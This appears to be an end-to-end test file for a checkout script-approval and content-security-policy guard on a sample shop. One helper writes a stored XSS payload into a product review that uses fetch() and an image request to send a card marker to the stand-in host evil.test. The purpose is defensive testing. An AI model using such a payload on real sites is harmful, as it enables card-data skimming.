// The checkout guard before the sample shop, as staff and a buyer meet it: learnt, approved at the console, held to approvals, bought; a
// script that somebody wrote into a review runs nothing and sends nothing, and staff are told.
import assert from 'node:assert/strict';
import { readFile, writeFile } from 'node:fs/promises';
import path from 'node:path';
import { after, before, test } from 'node:test';

import { violations } from './lib/accessible.mjs';
import { DESKTOP, open, PHONE, picture } from './lib/chromium.mjs';
import { database, storewardBinary } from './lib/paths.mjs';
import { output } from './lib/processes.mjs';
import { marker, sink } from './lib/skimmers.mjs';
import { enrol } from './lib/staff.mjs';
import { sampleShop } from './lib/stand.mjs';

let stand;
let browser;
let attacker;
/** A member of staff who owns the shop. */
let staff;

before(async () => {
  attacker = await sink();
  stand = await sampleShop();
  browser = await open(stand.ready.ca, ['evil.test']);
  staff = await browser.visitor();
  await enrol(staff.page, stand.ready);
});

after(async () => {
  await browser?.close();
  await stand?.stop();
  await attacker?.stop();
});

const at = (place) => new URL(place, stand.ready.shop).href;
const desk = (place) => new URL(place, stand.ready.console).href;
const data = () => path.join(stand.dir, 'data');

/** Changes the config of the running program. */
async function change(edit) {
  const file = path.join(data(), 'storeward.toml');
  await writeFile(file, edit(await readFile(file, 'utf8')));
  await output(storewardBinary, ['reload', '--dir', data()], { log: path.join(stand.dir, 'reload.log') });
}

async function until(what, holds) {
  for (const end = Date.now() + 60_000; Date.now() < end;) {
    const found = await holds();
    if (found) return found;
    await new Promise((resolve) => setTimeout(resolve, 500));
  }
  return assert.fail(`not within a minute: ${what}`);
}

async function signIn(page) {
  await page.goto(at('/account/sign-in'));
  await page.locator('input[name=email]').first().fill(stand.ready.customer.email);
  await page.locator('input[name=password]').first().fill(stand.ready.customer.password);
  await page.locator('form:has(input[name=password]) button').first().click();
  await page.waitForURL((url) => url.pathname !== '/account/sign-in');
}

async function toCheckout(page) {
  await page.goto(at('/product/peat-mug'));
  await page.getByRole('button', { name: 'Add to cart' }).click();
  await page.waitForFunction(() => Number(document.querySelector('[data-cart-count]')?.textContent) > 0);
  return page.goto(at('/checkout'));
}

/** Looks at a page of the console in every look. */
async function isFit(name) {
  for (const viewport of [PHONE, DESKTOP]) {
    for (const colorScheme of ['light', 'dark']) {
      await staff.page.setViewportSize(viewport);
      await staff.page.emulateMedia({ colorScheme });
      assert.deepEqual(await violations(staff.page), [], name);
      const width = await staff.page.evaluate(() => document.documentElement.scrollWidth - document.documentElement.clientWidth);
      assert.ok(width <= 0, `${name} is ${width} px wider than the screen`);
      await picture(staff.page, `console-${name}-${viewport.width}-${colorScheme}-${database}`);
    }
  }
}

test('what runs is learnt, approved at the console, and the page held to it', async () => {
  const { page, context } = await browser.visitor();
  await signIn(page);
  const answer = await toCheckout(page);
  assert.ok(answer.headers()['content-security-policy-report-only'], 'it learns');
  await context.close();
  const row = () => staff.page.getByRole('link', { name: /\/assets\/shop\.js$/ });
  await until('the shop’s script in the inventory', async () => {
    await staff.page.goto(desk('/scripts'));
    return (await row().count()) > 0;
  });
  await isFit('scripts');
  await row().last().click();
  await staff.page.getByRole('heading', { name: 'Approve or reject' }).waitFor();
  await isFit('script');
  await staff.page.getByRole('radio', { name: 'The address' }).check();
  await staff.page.getByLabel('Owner').fill('The shop');
  await staff.page.getByLabel('Why the paying page needs it').fill('Opens and closes the parts of the form');
  await staff.page.getByRole('button', { name: 'Approve' }).click();
  await staff.page.getByText('It is approved').waitFor();
  await staff.page.goto(desk('/scripts/page?path=/checkout'));
  await isFit('scripts-page');
  await staff.page.getByRole('button', { name: 'Approve the headers as they are' }).click();
  await staff.page.getByText('The headers are approved').waitFor();
  await staff.page.getByRole('button', { name: 'Run approved scripts only' }).click();
  await staff.page.getByText('runs approved scripts only, from the next answer on').waitFor();
  assert.deepEqual(staff.faults, []);
});

test('a buyer buys on the page that runs approved scripts only, without a fault', async () => {
  const { page, context, faults } = await browser.visitor();
  await signIn(page);
  const answer = await toCheckout(page);
  const policy = answer.headers()['content-security-policy'];
  assert.match(policy, /default-src 'none'.*script-src [^;]*\/assets\/shop\.js/);
  assert.match(answer.headers()['connection-allowlist'], /^\(response-origin/);
  assert.equal(await page.locator('script[data-mode=enforce]').count(), 1);
  await page.getByLabel(/^Online/).check();
  await page.getByRole('button', { name: 'Place order' }).click();
  await page.getByRole('heading', { name: 'Payment', level: 1 }).waitFor();
  await page.getByRole('button', { name: 'Pay by card' }).click();
  await page.waitForURL((url) => url.origin !== new URL(stand.ready.shop).origin);
  await page.getByLabel('Card number').fill('4242424242424242');
  for (const [label, value] of [['Expiry', '12 / 34'], ['Security code', '123'], ['Name on card', 'Ella Fairley'], ['Email', 'ella@example.com']]) {
    await page.getByLabel(label).first().fill(value);
  }
  await page.getByRole('button', { name: 'Pay', exact: true }).click();
  await page.waitForURL((url) => url.pathname.startsWith('/checkout/done/'), { timeout: 30_000 });
  assert.deepEqual(faults, []);
  await context.close();
});

/** Writes a review that is a script, with the front's rules for it off: one that got past them. */
async function poison(card) {
  const { page, context } = await browser.visitor();
  await signIn(page);
  await page.goto(at('/product/peat-mug'));
  const text = `<script>document.title='stolen';fetch('https://evil.test:${attacker.port}/c?${card}');new Image().src='https://evil.test:${attacker.port}/i?${card}'</script>`;
  await page.getByLabel('Title').fill('A mug');
  await page.getByLabel('Your review').fill(text);
  await page.getByRole('button', { name: 'Publish review' }).click();
  await page.waitForLoadState();
  await context.close();
}

const gotOut = () => attacker.arrived.some((line) => /evil\.test/.test(line));

test('a script in a review runs nothing and sends nothing where approved scripts alone run, and staff are told', async () => {
  const guarded = '[checkout]\npages = ["/checkout", "/product"]\non_change = "last_good"\n';
  await change((text) => `${text.replace('[checkout]\n', guarded)}\n[inspect]\nmode = "detect"\n`);
  const clean = await browser.visitor();
  await clean.page.goto(at('/product/peat-mug'));
  await clean.context.close();
  await poison(marker());
  // The page that only learns goes to its last good state by itself: what somebody put in was not there when the shop's script was approved.
  const held = await until('the last good state', async () => {
    const { page, context } = await browser.visitor();
    const answer = await page.goto(at('/product/peat-mug'));
    const policy = answer.headers()['content-security-policy'] ?? '';
    await context.close();
    return policy.includes("default-src 'none'");
  });
  assert.ok(held);
  assert.ok(gotOut(), 'before that it ran, and got out: the test can fail');
  attacker.arrived.length = 0;
  const { page, context, faults } = await browser.visitor();
  await page.goto(at('/product/peat-mug'));
  assert.match(await page.content(), /document\.title='stolen'/, 'it stands in the page');
  await page.waitForTimeout(2_000);
  assert.notEqual(await page.title(), 'stolen');
  assert.equal(gotOut(), false, attacker.arrived.join('\n'));
  assert.ok(faults.some((fault) => /Content.Security.Policy/i.test(fault)), faults.join('\n'));
  await context.close();
  await until('the alert', async () => {
    await staff.page.goto(desk('/scripts'));
    return /inline on \/product/.test(await staff.page.locator('main').innerText());
  });
  assert.match(await staff.page.locator('main').innerText(), /last good state/i);
  await isFit('scripts-alert');
});
